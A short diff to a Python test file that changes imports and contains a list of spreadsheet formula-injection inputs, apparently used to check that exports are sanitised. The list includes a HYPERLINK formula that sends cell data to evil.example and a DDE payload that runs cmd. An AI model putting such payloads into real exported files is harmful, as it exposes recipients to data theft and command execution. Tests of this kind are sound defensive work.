@@ -13,10 +13,10 @@ import json
 import zipfile
 
 import pytest
+from planmap.layers import export
+from planmap.server import create_app
 
-import layers
-from layers import export
-from server import create_app
+from planmap import layers
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)", "\tlead tab", "\rlead cr"]
